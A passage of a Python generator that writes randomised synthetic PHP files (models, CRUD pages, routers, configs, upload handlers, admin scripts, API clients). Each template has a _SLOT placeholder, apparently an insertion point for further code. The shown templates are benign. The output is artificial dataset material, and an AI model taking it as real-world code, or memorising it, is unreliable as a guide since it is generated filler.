            f"({FIELD_TYPES[f] if FIELD_TYPES[f] != 'bool' else 'bool'}) ($row['{f}'] ?? {_default(f)})"
            for f in fields
        )
        return f"    public static function fromArray(array $row): self\n    {{\n        return new self({args});\n    }}\n"
    if kind == 3:
        return _t(
            """    public function ⟨n⟩(array $lines): float
    {
⟨slot⟩        $total = 0.0;
        foreach ($lines as $line) {
            $total += (float) $line['price'] * (int) ($line['quantity'] ?? 1);
        }
        return round($total * (1 + ⟨tax⟩), 2);
    }
""",
            n=c.name("calculate", "total"),
            slot=slot,
            tax=r.choice(("0.0", "0.07", "0.19", "0.2")),
        )
    if kind == 4:
        f = r.choice(fields)
        return _t(
            """    public function ⟨n⟩(): bool
    {
        return $this->⟨p⟩ === ⟨v⟩;
    }
""",
            n=c.name("is", r.choice(ADJS)),
            p=props[f],
            v=_default(f),
        )
    if kind == 5:
        return _t(
            """    public function jsonSerialize(): mixed
    {
        return get_object_vars($this);
    }
""",
        )
    if kind == 6:
        return _t(
            """    public function ⟨n⟩(string $format = 'Y-m-d'): string
    {
        return (new DateTimeImmutable('@' . (string) $this->⟨p⟩))->format($format);
    }
""",
            n=c.name("format", "date"),
            p=props[fields[0]],
        )
    if kind == 7:
        tbl = cls.lower() + "s"
        return _t(
            """    public function ⟨n⟩(PDO $pdo): bool
    {
⟨slot⟩        $stmt = $pdo->prepare('UPDATE ⟨t⟩ SET ⟨f⟩ = :value WHERE id = :id');
        return $stmt->execute(['value' => $this->⟨p⟩, 'id' => $this->⟨pid⟩]);
    }
""",
            n=c.name("save"),
            slot=slot,
            t=tbl,
            f=fields[-1],
            p=props[fields[-1]],
            pid=props["id"],
        )
    if kind == 8:
        return _t(
            """    public function __toString(): string
    {
        return sprintf('%s #%d', static::class, $this->⟨pid⟩);
    }
""",
            pid=props["id"],
        )
    if kind == 9:
        f = r.choice(fields)
        return _t(
            """    public function ⟨n⟩(array $items): array
    {
        usort($items, static fn(self $a, self $b): int => $a->⟨p⟩ <=> $b->⟨p⟩);
        return $items;
    }
""",
            n=c.name("sort", "by", f),
            p=props[f],
        )
    if kind == 10:
        return _t(
            """    public function ⟨n⟩(int $count): void
    {
        assert($count >= 0, 'count must not be negative');
        $this->⟨p⟩ = $count;
    }
""",
            n=c.name("set", "count"),
            p=props["id"],
        )
    return _t(
        """    public function ⟨n⟩(): string
    {
        return hash('sha256', json_encode(get_object_vars($this), JSON_THROW_ON_ERROR));
    }
""",
        n=c.name("fingerprint"),
    )


def _default(field: str) -> str:
    t = FIELD_TYPES[field]
    return {"int": "0", "float": "0.0", "bool": "false"}.get(t, "''")


def _class(c: _Ctx, size: int) -> str:
    r = c.r
    noun = c.noun()
    cls = _pascal([noun])
    ns = r.choice(NAMESPACES)
    sub = r.choice(("Model", "Entity", "Domain", "Service", "Repository"))
    fields = ["id", *r.sample([f for f in FIELDS if f != "id"], r.randint(2, 7))]
    props = {f: (_camel([f]) if c.camel else f) for f in fields}
    out = ["<?php\n\n", "declare(strict_types=1);\n\n", f"namespace {ns}\\{sub};\n\n"]
    out.append("use DateTimeImmutable;\nuse InvalidArgumentException;\n")
    out.append("use JsonSerializable;\nuse PDO;\n\n")
    out.append(_file_header(c) or f"/**\n * {c.sentence()}\n */\n")
    final = "final " if r.chance(0.4) else ""
    out.append(f"{final}class {cls} implements JsonSerializable\n{{\n")
    for f in fields:
        out.append(c.maybe_comment("    ", 0.2))
        out.append(f"    private {FIELD_TYPES[f]} ${props[f]};\n")
    out.append("\n")
    params = ", ".join(f"{FIELD_TYPES[f]} ${props[f]} = {_default(f)}" for f in fields)
    assigns = "        " + _SLOT + "\n"
    assigns += "".join(f"        $this->{props[f]} = ${props[f]};\n" for f in fields)
    out.append(f"    public function __construct({params})\n    {{\n{assigns}    }}\n")
    for f in r.sample(fields, r.randint(1, len(fields))):
        getter = ("get" + _pascal([f])) if c.camel or r.chance(0.5) else f"get_{f}"
        out.append(f"\n    public function {getter}(): {FIELD_TYPES[f]}\n    {{\n")
        out.append(f"        return $this->{props[f]};\n    }}\n")
    methods: set[str] = set()
    for _ in range(size):
        m = _class_method(c, cls, fields, props)
        name = re.search(r"function (\w+)", m).group(1)
        if name in methods:
            continue
        methods.add(name)
        out.append("\n" + c.maybe_comment("    ", 0.3) + m)
    if "jsonSerialize" not in methods:
        out.append(
            "\n    public function jsonSerialize(): mixed\n    {\n"
            "        return get_object_vars($this);\n    }\n"
        )
    out.append("}\n")
    return "".join(out)


def _crud(c: _Ctx, size: int) -> str:
    r = c.r
    noun = c.noun()
    table = noun + "s"
    fields = r.sample(
        [f for f in FIELDS if f != "id" and FIELD_TYPES[f] != "bool"], r.randint(2, 5)
    )
    use_pdo = r.chance(0.65)
    out = ["<?php\n", _file_header(c), "session_start();\n"]
    helpers = _helpers(c, r.randint(0, max(0, size // 2)))
    if use_pdo:
        dsn = f"mysql:host=localhost;dbname={r.choice(NAMESPACES).lower()};charset=utf8mb4"
        out.append(
            _t(
                """$pdo = new PDO('⟨dsn⟩', 'app', getenv('DB_PASSWORD') ?: '', [
    PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION,
    PDO::ATTR_DEFAULT_FETCH_MODE => PDO::FETCH_ASSOC,
]);
""",
                dsn=dsn,
            )
        )
    else:
        out.append(
            _t(
                """$db = new mysqli('localhost', 'app', getenv('DB_PASSWORD') ?: '', '⟨name⟩');
if ($db->connect_errno) {
    http_response_code(500);
    exit('Database unavailable');
}
$db->set_charset('utf8mb4');
""",
                name=r.choice(NAMESPACES).lower(),
            )
        )
    out.append(("\n" + helpers if helpers else "") + "\n")
    out.append("$errors = [];\n$action = $_GET['action'] ?? 'list';\n" + _SLOT + "\n")
    out.append("if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n")
    for f in fields:
        t = FIELD_TYPES[f]
        v = "$" + (_camel([f]) if c.camel else f)
        if f == "email":
            out.append(f"    {v} = filter_input(INPUT_POST, 'email', FILTER_VALIDATE_EMAIL);\n")
            out.append(
                f"    if ({v} === false || {v} === null) {{\n        $errors[] = 'Invalid email address.';\n    }}\n"
            )
        elif t == "int":
            out.append(f"    {v} = (int) ($_POST['{f}'] ?? 0);\n")
        elif t == "float":
            out.append(
                f"    {v} = (float) str_replace(',', '.', (string) ($_POST['{f}'] ?? '0'));\n"
            )
        else:
            out.append(f"    {v} = trim((string) ($_POST['{f}'] ?? ''));\n")
            if r.chance(0.5):
                label = f.replace("_", " ").capitalize()
                out.append(
                    f"    if ({v} === '') {{\n        $errors[] = '{label} is required.';\n    }}\n"
                )
    out.append("    " + _SLOT + "\n")
    cols = ", ".join(fields)
    vars_ = ["$" + (_camel([f]) if c.camel else f) for f in fields]
    if use_pdo:
        ph = ", ".join(":" + f for f in fields)
        binds = ", ".join(f"'{f}' => {v}" for f, v in zip(fields, vars_))
        out.append(
            _t(
                """    if (!$errors) {
        $stmt = $pdo->prepare('INSERT INTO ⟨t⟩ (⟨cols⟩) VALUES (⟨ph⟩)');
        $stmt->execute([⟨binds⟩]);
        header('Location: ⟨t⟩.php?saved=' . $pdo->lastInsertId());
        exit;
    }
}
""",
                t=table,
                cols=cols,
                ph=ph,
                binds=binds,
            )
        )
    else:
        if r.chance(0.5):
            esc = "".join(f"        {v} = $db->real_escape_string((string) {v});\n" for v in vars_)
            vals = ", ".join(f"'{v}'" for v in vars_)
            out.append(
                _t(
                    """    if (!$errors) {
⟨esc⟩        $db->query("INSERT INTO ⟨t⟩ (⟨cols⟩) VALUES (⟨vals⟩)");
        header('Location: ⟨t⟩.php?saved=1');
        exit;
    }
}
""",
                    esc=esc,
                    t=table,
                    cols=cols,
                    vals=vals,
                )
            )
        else:
            types = "".join({"int": "i", "float": "d"}.get(FIELD_TYPES[f], "s") for f in fields)
            out.append(
                _t(
                    """    if (!$errors) {
        $stmt = $db->prepare('INSERT INTO ⟨t⟩ (⟨cols⟩) VALUES (⟨q⟩)');
        $stmt->bind_param('⟨types⟩', ⟨vars⟩);
        $stmt->execute();
        header('Location: ⟨t⟩.php?saved=1');
        exit;
    }
}
""",
                    t=table,
                    cols=cols,
                    q=", ".join("?" for _ in fields),
                    types=types,
                    vars=", ".join(vars_),
                )
            )
    actions = r.sample(("delete", "show", "search", "export"), r.randint(1, min(4, 1 + size // 2)))
    for act in actions:
        if act == "delete":
            stmt = (
                f"    $stmt = $pdo->prepare('DELETE FROM {table} WHERE id = ?');\n    $stmt->execute([(int) $_GET['id']]);\n"
                if use_pdo
                else f"    $stmt = $db->prepare('DELETE FROM {table} WHERE id = ?');\n    $id = (int) $_GET['id'];\n    $stmt->bind_param('i', $id);\n    $stmt->execute();\n"
            )
            out.append(
                f"\nif ($action === 'delete' && isset($_GET['id'])) {{\n{stmt}    header('Location: {table}.php');\n    exit;\n}}\n"
            )
        elif act == "show":
            q = (
                f"    $stmt = $pdo->prepare('SELECT * FROM {table} WHERE id = :id');\n    $stmt->execute(['id' => (int) $_GET['id']]);\n    $current = $stmt->fetch() ?: null;\n"
                if use_pdo
                else f"    $id = (int) $_GET['id'];\n    $result = $db->query('SELECT * FROM {table} WHERE id = ' . $id);\n    $current = $result ? $result->fetch_assoc() : null;\n"
            )
            out.append(
                f"\n$current = null;\nif ($action === 'show' && isset($_GET['id'])) {{\n{q}}}\n"
            )
        elif act == "search":
            f = fields[0]
            q = (
                f"    $stmt = $pdo->prepare('SELECT * FROM {table} WHERE {f} LIKE :term LIMIT 50');\n    $stmt->execute(['term' => '%' . $term . '%']);\n    $found = $stmt->fetchAll();\n"
                if use_pdo
                else f"    $like = '%' . $db->real_escape_string($term) . '%';\n    $found = $db->query(\"SELECT * FROM {table} WHERE {f} LIKE '$like' LIMIT 50\")->fetch_all(MYSQLI_ASSOC);\n"
            )
            out.append(
                f"\n$found = [];\n$term = trim((string) ($_GET['term'] ?? ''));\nif ($term !== '') {{\n{q}}}\n"
            )
        else:
            out.append(
                _t(
                    """
if ($action === 'export') {
    header('Content-Type: text/csv');
    header('Content-Disposition: attachment; filename="⟨t⟩.csv"');
    $out = fopen('php://output', 'w');
    fputcsv($out, [⟨head⟩]);
    foreach (⟨rows⟩ as $line) {
        fputcsv($out, $line);
    }
    fclose($out);
    exit;
}
""",
                    t=table,
                    head=", ".join(f"'{f}'" for f in fields),
                    rows=f"$pdo->query('SELECT {cols} FROM {table}')"
                    if use_pdo
                    else f"$db->query('SELECT {cols} FROM {table}')",
                )
            )
    if use_pdo:
        out.append(
            f"\n$rows = $pdo->query('SELECT id, {cols} FROM {table} ORDER BY id DESC LIMIT 100')->fetchAll();\n"
        )
    else:
        out.append(
            f"\n$rows = $db->query('SELECT id, {cols} FROM {table} ORDER BY id DESC LIMIT 100')->fetch_all(MYSQLI_ASSOC);\n"
        )
    out.append('?>\n<!DOCTYPE html>\n<html>\n<head><meta charset="utf-8"><title>')
    out.append(f"{table.capitalize()}</title></head>\n<body>\n")
    out.append(
        '<?php foreach ($errors as $error): ?>\n    <p class="error"><?= htmlspecialchars($error) ?></p>\n<?php endforeach; ?>\n'
    )
    out.append(_html_section(c, "$rows", ["id", *fields], "$term"))
    inputs = "\n".join(
        f"    <label>{f.replace('_', ' ').capitalize()} <input name=\"{f}\" value=\"<?= htmlspecialchars((string) ($_POST['{f}'] ?? '')) ?>\"></label>"
        for f in fields
    )
    out.append(
        f'<form method="post">\n{inputs}\n    <button type="submit">Save</button>\n</form>\n'
    )
    for _ in range(size // 3):
        out.append(_html_section(c, "$rows", ["id", *fields], "$term"))
    out.append("</body>\n</html>\n")
    return "".join(out)


def _router(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n", _file_header(c), "declare(strict_types=1);\n\n"]
    out.append(
        f"require {r.choice(('__DIR__ . ', 'dirname(__DIR__) . '))}'/vendor/autoload.php';\n\n"
    )
    kind = r.randint(0, 2)
    nouns = r.sample(NOUNS, max(2, min(12, size + 1)))
    if kind == 0:
        out.append("$method = $_SERVER['REQUEST_METHOD'] ?? 'GET';\n")
        out.append("$path = parse_url($_SERVER['REQUEST_URI'] ?? '/', PHP_URL_PATH) ?: '/';\n\n")
        out.append(
            "$routes = [\n    'GET' => [\n        '#^/$#' => [HomeController::class, 'index'],\n"
        )
        for n in nouns:
            ctl = _pascal([n]) + "Controller"
            out.append(f"        '#^/{n}s$#' => [{ctl}::class, 'index'],\n")
            out.append(f"        '#^/{n}s/(\\d+)$#' => [{ctl}::class, 'show'],\n")
        out.append("    ],\n    'POST' => [\n")
        for n in nouns[: max(1, len(nouns) // 2)]:
            out.append(f"        '#^/{n}s$#' => [{_pascal([n])}Controller::class, 'store'],\n")
        out.append("    ],\n];\n\n" + _SLOT + "\n")
        out.append(
            """foreach ($routes[$method] ?? [] as $pattern => $handler) {
    if (preg_match($pattern, $path, $params)) {
        array_shift($params);
        [$class, $action] = $handler;
        $controller = new $class();
        echo call_user_func_array([$controller, $action], $params);
        exit;
    }
}

http_response_code(404);
echo 'Not Found';
"""
        )
    elif kind == 1:
        out.append("$page = $_GET['page'] ?? 'home';\n" + _SLOT + "\n")
        out.append(
            "switch ($page) {\n    case 'home':\n        require __DIR__ . '/views/home.php';\n        break;\n"
        )
        for n in nouns:
            out.append(
                f"    case '{n}s':\n        require __DIR__ . '/views/{n}s.php';\n        break;\n"
            )
        out.append(
            "    default:\n        http_response_code(404);\n        require __DIR__ . '/views/404.php';\n}\n"
        )
    else:
        cls = c.name("Router") if not c.camel else "Router"
        out.append(
            _t(
                """final class ⟨cls⟩
{
    private array $routes = [];

    public function add(string $method, string $pattern, callable $handler): void
    {
        $this->routes[] = [strtoupper($method), '#^' . $pattern . '$#', $handler];
    }

    public function dispatch(string $method, string $uri): mixed
    {
        $path = parse_url($uri, PHP_URL_PATH) ?: '/';
        foreach ($this->routes as [$verb, $regex, $handler]) {
            if ($verb === $method && preg_match($regex, $path, $m)) {
                return call_user_func($handler, ...array_slice($m, 1));
            }
        }
        http_response_code(404);
        return 'Not Found';
    }
}

$router = new ⟨cls⟩();
""",
                cls=cls,
            )
        )
        for n in nouns:
            out.append(
                f"$router->add('GET', '/{n}s/(\\d+)', function (string $id) {{\n    return render('{n}', ['id' => (int) $id]);\n}});\n"
            )
            if r.chance(0.4):
                out.append(
                    f"$router->add('POST', '/{n}s', static fn() => json_encode(['ok' => true, 'data' => array_map('trim', $_POST)]));\n"
                )
        out.append(
            _SLOT
            + "\necho $router->dispatch($_SERVER['REQUEST_METHOD'], $_SERVER['REQUEST_URI']);\n"
        )
    if r.chance(0.4):
        out.append("\n" + _helpers(c, r.randint(1, 3)))
    return "".join(out)


def _salt(r: _Rand, k: int = 64) -> str:
    alphabet = (
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#%^&*()-_=+[]{}<>~|;:,.?/"
    )
    return r.token(k, alphabet)


def _config(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n", _file_header(c)]
    if r.chance(0.4):
        keys = (
            "AUTH_KEY",
            "SECURE_AUTH_KEY",
            "LOGGED_IN_KEY",
            "NONCE_KEY",
            "AUTH_SALT",
            "NONCE_SALT",
        )
        out.append(f"define('DB_NAME', '{r.choice(NAMESPACES).lower()}');\n")
        out.append("define('DB_USER', 'app');\n")
        out.append("define('DB_PASSWORD', getenv('DB_PASSWORD') ?: '');\n")
        out.append("define('DB_HOST', getenv('DB_HOST') ?: 'localhost');\n")
        out.append("define('DB_CHARSET', 'utf8mb4');\n\n")
        for k in keys[: r.randint(2, len(keys))]:
            out.append(f"define('{k}', {php_single_quoted(_salt(r))});\n")
        out.append(f"\n$table_prefix = '{r.token(3)}_';\n")
        out.append(f"define('APP_DEBUG', {r.choice(('false', 'true'))});\n")
        if r.chance(0.6):
            out.append("\nif (!defined('ABSPATH')) {\n    define('ABSPATH', __DIR__ . '/');\n}\n")
        for _ in range(size // 2):
            out.append(
                f"define('{r.choice(ADJS).upper()}_{c.noun().upper()}_{r.choice(('LIMIT', 'TTL', 'SIZE', 'PATH', 'ENABLED'))}', {r.choice(('true', 'false', str(r.randint(1, 9999)), php_single_quoted('/var/www/' + c.noun())))});\n"
            )
        return "".join(out)
    if r.chance(0.5):
        out.append("ini_set('display_errors', '0');\nerror_reporting(E_ALL);\n")
        out.append(
            f"date_default_timezone_set('{r.choice(('UTC', 'Europe/Berlin', 'America/New_York', 'Asia/Tokyo'))}');\n\n"
        )
    out.append("return [\n")
    sections = [
        "app",
        "database",
        "mail",
        "cache",
        "session",
        "logging",
        "queue",
        "services",
        "view",
        "filesystems",
    ]
    for sec in sections[: max(2, min(len(sections), 2 + size // 2))]:
        out.append(f"    '{sec}' => [\n")
        if sec == "app":
            out.append(
                f"        'name' => {c.lit(r.choice(SITES))},\n        'env' => getenv('APP_ENV') ?: 'production',\n"
            )
            out.append(
                "        'debug' => (bool) getenv('APP_DEBUG'),\n        'url' => 'https://www.example.com',\n"
            )
            out.append(
                f"        'key' => {php_single_quoted('base64:' + base64.b64encode(bytes(r.randint(0, 255) for _ in range(32))).decode())},\n"
            )
        elif sec == "database":
            out.append(
                "        'driver' => 'mysql',\n        'host' => getenv('DB_HOST') ?: '127.0.0.1',\n        'port' => (int) (getenv('DB_PORT') ?: 3306),\n"
            )
            out.append(
                f"        'database' => '{r.choice(NAMESPACES).lower()}',\n        'username' => getenv('DB_USER') ?: 'app',\n        'password' => getenv('DB_PASSWORD') ?: '',\n"
            )
        else:
            for _ in range(r.randint(2, 5)):
                key = r.choice(
                    (
                        "driver",
                        "path",
                        "ttl",
                        "host",
                        "port",
                        "prefix",
                        "enabled",
                        "timeout",
                        "from",
                        "level",
                    )
                )
                val = r.choice(
                    (
                        "true",
                        "false",
                        str(r.randint(1, 86400)),
                        php_single_quoted(c.noun()),
                        f"getenv('{sec.upper()}_{key.upper()}') ?: {php_single_quoted(c.noun())}",
                    )
                )
                out.append(f"        '{key}' => {val},\n")
        out.append("    ],\n")
    out.append("];\n")
    return "".join(out)


def _image_data(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n", _file_header(c)]
    kind = r.randint(0, 3)
    if kind == 0:
        n = c.name("save", "data", "uri")
        d = c.var("upload", "dir")
        out.append(
            _t(
                """⟨d⟩ = __DIR__ . '/uploads/⟨what⟩';

function ⟨n⟩(string $uri, string $dir): string
{
    if (!preg_match('#^data:image/(png|jpe?g|gif|webp);base64,([A-Za-z0-9+/=]+)$#', $uri, $m)) {
        throw new InvalidArgumentException('Not an image data URI');
    }
    $bytes = base64_decode($m[2], true);
    if ($bytes === false || strlen($bytes) > ⟨max⟩ * 1024 * 1024) {
        throw new InvalidArgumentException('Image is invalid or too large');
    }
    if (getimagesizefromstring($bytes) === false) {
        throw new InvalidArgumentException('Not an image');
    }
    $ext = $m[1] === 'jpeg' ? 'jpg' : $m[1];
    $name = bin2hex(random_bytes(16)) . '.' . $ext;
    file_put_contents($dir . '/' . $name, $bytes, LOCK_EX);
    return $name;
}

if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_POST['⟨field⟩'])) {
⟨slot⟩    try {
        $file = ⟨n⟩((string) $_POST['⟨field⟩'], ⟨d⟩);
        echo json_encode(['ok' => true, 'file' => $file]);
    } catch (InvalidArgumentException $e) {
        http_response_code(422);
        echo json_encode(['ok' => false, 'error' => $e->getMessage()]);
    }
}
""",
                d=d,
                n=n,
                what=r.choice(("avatars", "images", "signatures", "screenshots")),
                max=r.choice((1, 2, 5)),
                field=r.choice(("avatar", "image", "signature", "photo", "canvas")),
                slot="    " + _SLOT + "\n",
            )
        )
    elif kind == 1:
        exts = r.sample(("jpg", "jpeg", "png", "gif", "webp", "pdf"), r.randint(2, 4))
        field = r.choice(("photo", "attachment", "document", "file", "image"))
        out.append(
            _t(
                """$allowed = [⟨exts⟩];
$target = __DIR__ . '/uploads/';
$message = '';

if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['⟨f⟩'])) {
    $file = $_FILES['⟨f⟩'];
    $ext = strtolower(pathinfo($file['name'], PATHINFO_EXTENSION));
    $mime = (new finfo(FILEINFO_MIME_TYPE))->file($file['tmp_name']);
⟨slot⟩    if ($file['error'] !== UPLOAD_ERR_OK) {
        $message = 'Upload failed.';
    } elseif (!in_array($ext, $allowed, true) || strpos((string) $mime, 'text/') === 0) {
        $message = 'File type not allowed.';
    } elseif ($file['size'] > ⟨max⟩) {
        $message = 'File is too large.';
    } else {
        $name = sprintf('%s.%s', bin2hex(random_bytes(12)), $ext);
        if (move_uploaded_file($file['tmp_name'], $target . $name)) {
            $message = 'Uploaded as ' . htmlspecialchars($name);
        }
    }
}
?>
<form method="post" enctype="multipart/form-data">
    <input type="file" name="⟨f⟩" accept="⟨accept⟩">
    <button type="submit">Upload</button>
</form>
<p><?= $message ?></p>
""",
                exts=", ".join(f"'{e}'" for e in exts),
                f=field,
                max=r.choice((1048576, 2097152, 5242880)),
                accept=",".join("." + e for e in exts),
                slot="    " + _SLOT + "\n",
            )
        )
        return "".join(out)
    elif kind == 2:
        gif = "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
        out.append(
            _t(
                """$campaign = preg_replace('/[^a-z0-9_-]/i', '', (string) ($_GET['c'] ?? ''));
$line = sprintf("%s\\t%s\\t%s\\n", date('c'), $campaign, $_SERVER['HTTP_USER_AGENT'] ?? '-');
file_put_contents(__DIR__ . '/⟨log⟩', $line, FILE_APPEND | LOCK_EX);
⟨slot⟩
header('Content-Type: image/gif');
header('Cache-Control: no-store, no-cache, must-revalidate');
echo base64_decode('⟨gif⟩');
""",
                log=r.choice(("opens.log", "logs/pixel.log", "stats/opens.tsv")),
                gif=gif,
                slot=_SLOT,
            )
        )
    else:
        n = c.name("decode", "token") if r.chance(0.5) else c.name("jwt", "payload")
        out.append(
            _t(
                """function ⟨n⟩(string $jwt, string $secret): ?array
{
    $parts = explode('.', $jwt);
    if (count($parts) !== 3) {
        return null;
    }
    [$head, $body, $sig] = $parts;
    $expected = rtrim(strtr(base64_encode(hash_hmac('sha256', $head . '.' . $body, $secret, true)), '+/', '-_'), '=');
    if (!hash_equals($expected, $sig)) {
        return null;
    }
    $claims = json_decode(base64_decode(strtr($body, '-_', '+/')), true);
    if (!is_array($claims) || ($claims['exp'] ?? 0) < time()) {
        return null;
    }
    return $claims;
}

$header = $_SERVER['HTTP_AUTHORIZATION'] ?? '';
$claims = str_starts_with($header, 'Bearer ') ? ⟨n⟩(substr($header, 7), (string) getenv('JWT_SECRET')) : null;
⟨slot⟩if ($claims === null) {
    http_response_code(401);
    exit;
}
""",
                n=n,
                slot=_SLOT + "\n",
            )
        )
    if size > 2:
        out.append("\n" + _helpers(c, r.randint(1, size // 2)))
    return "".join(out)


def _admin_script(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n", _file_header(c)]
    kind = r.randint(0, 3)
    if kind == 0:
        out.append(
            _t(
                """if (PHP_SAPI !== 'cli') {
    http_response_code(403);
    exit("CLI only\\n");
}

$root = ⟨root⟩;
$branch = $argv[1] ?? '⟨branch⟩';
if (!preg_match('/^[A-Za-z0-9._\\/-]+$/', $branch)) {
    fwrite(STDERR, "Invalid branch name\\n");
    exit(1);
}
⟨slot⟩
$commands = [
    'git -C ' . escapeshellarg($root) . ' fetch --quiet origin',
    'git -C ' . escapeshellarg($root) . ' checkout --quiet ' . escapeshellarg($branch),
    'git -C ' . escapeshellarg($root) . ' pull --ff-only',
    'composer install --no-dev --optimize-autoloader --working-dir=' . escapeshellarg($root),
];

foreach ($commands as $cmd) {
    echo '> ', $cmd, PHP_EOL;
    $output = [];
    exec($cmd . ' 2>&1', $output, $code);
    echo implode(PHP_EOL, $output), PHP_EOL;
    if ($code !== 0) {
        fwrite(STDERR, "Command failed with status $code\\n");
        exit($code);
    }
}

echo shell_exec('df -h ' . escapeshellarg($root));
""",
                root=r.choice(("dirname(__DIR__)", "__DIR__", "'/var/www/" + c.noun() + "'")),
                branch=r.choice(("main", "master", "production", "release")),
                slot=_SLOT,
            )
        )
    elif kind == 1:
        out.append(
            _t(
                """if (PHP_SAPI !== 'cli') {
    exit(1);
}

$config = require __DIR__ . '/config.php';
$db = $config['database'];
$file = sprintf('%s/backup-%s.sql.gz', ⟨dir⟩, date('Ymd-His'));
⟨slot⟩
$cmd = sprintf(
    'mysqldump --single-transaction -h %s -u %s %s | gzip > %s',
    escapeshellarg($db['host']),
    escapeshellarg($db['username']),
    escapeshellarg($db['database']),
    escapeshellarg($file)
);
putenv('MYSQL_PWD=' . $db['password']);
passthru($cmd, $status);
if ($status !== 0) {
    fwrite(STDERR, "Backup failed\\n");
    exit($status);
}
echo 'Backup written to ', $file, PHP_EOL;

foreach (glob(⟨dir⟩ . '/backup-*.sql.gz') as $old) {
    if (filemtime($old) < time() - ⟨days⟩ * 86400) {
        unlink($old);
    }
}
""",
                dir=r.choice(
                    (
                        "'/var/backups/" + c.noun() + "'",
                        "__DIR__ . '/backups'",
                        "dirname(__DIR__) . '/storage/backups'",
                    )
                ),
                days=r.choice((7, 14, 30)),
                slot=_SLOT,
            )
        )
    elif kind == 2:
        info = (
            "if (isset($_GET['phpinfo'])) {\n    phpinfo(INFO_GENERAL | INFO_MODULES);\n    exit;\n}\n"
            if r.chance(0.35)
            else ""
        )
        out.append(
            _t(
                """session_start();
if (empty($_SESSION['is_admin'])) {
    header('Location: /login.php');
    exit;
}
⟨info⟩⟨slot⟩
$status = [
    'php' => PHP_VERSION,
    'os' => php_uname('s') . ' ' . php_uname('r'),
    'host' => gethostname(),
    'load' => sys_getloadavg(),
    'memory' => memory_get_usage(true),
    'memory_limit' => ini_get('memory_limit'),
    'disk_free' => disk_free_space('/'),
    'env' => getenv('APP_ENV') ?: 'production',
    'extensions' => get_loaded_extensions(),
];
header('Content-Type: application/json');
echo json_encode($status, JSON_PRETTY_PRINT);
""",
                info=info,
                slot=_SLOT,
            )
        )
    else:
        tool = r.choice((("optipng", "-o2"), ("jpegoptim", "--strip-all"), ("cwebp", "-q 80")))
        out.append(
            _t(
                """if (PHP_SAPI !== 'cli') {
    exit(1);
}

$dir = $argv[1] ?? __DIR__ . '/public/images';
$files = new RegexIterator(new RecursiveIteratorIterator(new RecursiveDirectoryIterator($dir)), '/\\.(png|jpe?g)$/i');
⟨slot⟩
foreach ($files as $file) {
    $spec = [1 => ['pipe', 'w'], 2 => ['pipe', 'w']];
    $proc = proc_open(['⟨tool⟩', '⟨flag⟩', $file->getPathname()], $spec, $pipes);
    if (!is_resource($proc)) {
        continue;
    }
    $out = stream_get_contents($pipes[1]);
    fclose($pipes[1]);
    fclose($pipes[2]);
    $code = proc_close($proc);
    printf("%s %s\\n", $code === 0 ? 'ok  ' : 'FAIL', $file->getFilename());
}

$version = trim((string) shell_exec('⟨tool⟩ --version 2>&1'));
echo 'Used ', $version, PHP_EOL;
""",
                tool=tool[0],
                flag=tool[1],
                slot=_SLOT,
            )
        )
    if size > 1:
        out.append("\n" + _helpers(c, r.randint(1, max(1, size // 2))))
    return "".join(out)


def _api_client(c: _Ctx, size: int) -> str:
    r = c.r
    out = ["<?php\n\ndeclare(strict_types=1);\n\n", f"namespace {r.choice(NAMESPACES)}\\Http;\n\n"]
    out.append("use RuntimeException;\n\n" + _file_header(c))
    svc = r.choice(
        ("Payment", "Weather", "Shipping", "Crm", "Mail", "Geo", "Search", "Sms", "Billing")
    )
    kind = r.randint(0, 4)
    if kind <= 2:
        out.append(
            _t(
                """final class ⟨svc⟩Client
{
    private string $baseUrl;
    private string $token;
    private int $timeout;

    public function __construct(string $baseUrl = 'https://api.example.com/v⟨v⟩', string $token = '', int $timeout = ⟨to⟩)
    {
        $this->baseUrl = rtrim($baseUrl, '/');
        $this->token = $token;
        $this->timeout = $timeout;
    }

    public function get(string $path, array $query = []): array
    {
        return $this->request('GET', $path . ($query ? '?' . http_build_query($query) : ''));
    }

    public function post(string $path, array $body): array
    {
        return $this->request('POST', $path, json_encode($body, JSON_THROW_ON_ERROR));
    }

    private function request(string $method, string $path, ?string $body = null): array
    {
        $ch = curl_init($this->baseUrl . '/' . ltrim($path, '/'));
        curl_setopt_array($ch, [
            CURLOPT_RETURNTRANSFER => true,
            CURLOPT_CUSTOMREQUEST => $method,
            CURLOPT_TIMEOUT => $this->timeout,
            CURLOPT_FOLLOWLOCATION => false,
            CURLOPT_HTTPHEADER => [
                'Accept: application/json',
                'Content-Type: application/json',
                'Authorization: Bearer ' . $this->token,
            ],
        ]);
        if ($body !== null) {
            curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
        }
⟨slot⟩        $response = curl_exec($ch);
        if ($response === false) {
            $error = curl_error($ch);
            curl_close($ch);
            throw new RuntimeException('HTTP request failed: ' . $error);
        }
        $status = (int) curl_getinfo($ch, CURLINFO_HTTP_CODE);
        curl_close($ch);
        $data = json_decode((string) $response, true);
        if ($status >= 400 || !is_array($data)) {
            throw new RuntimeException(sprintf('Unexpected response (%d)', $status));
        }
        return $data;
    }
""",
                svc=svc,
                v=r.randint(1, 3),
                to=r.choice((5, 10, 15, 30)),
                slot="        " + _SLOT + "\n",
            )
        )
        for n in r.sample(NOUNS, max(1, min(10, size))):
            plural = n + "s"
            pas = _pascal([n])
            out.append(
                f"\n    public function list{pas}s(int $page = 1): array\n    {{\n        return $this->get('/{plural}', ['page' => $page]);\n    }}\n"
            )
            if r.chance(0.5):
                out.append(
                    f"\n    public function create{pas}(array $data): array\n    {{\n        return $this->post('/{plural}', $data);\n    }}\n"
                )
        out.append("}\n")
    elif kind == 3:
        out.append(
            _t(
                """function ⟨n⟩(string $url, array $payload, string $secret): bool
{
    $body = json_encode($payload, JSON_THROW_ON_ERROR);
    $context = stream_context_create([
        'http' => [
            'method' => 'POST',
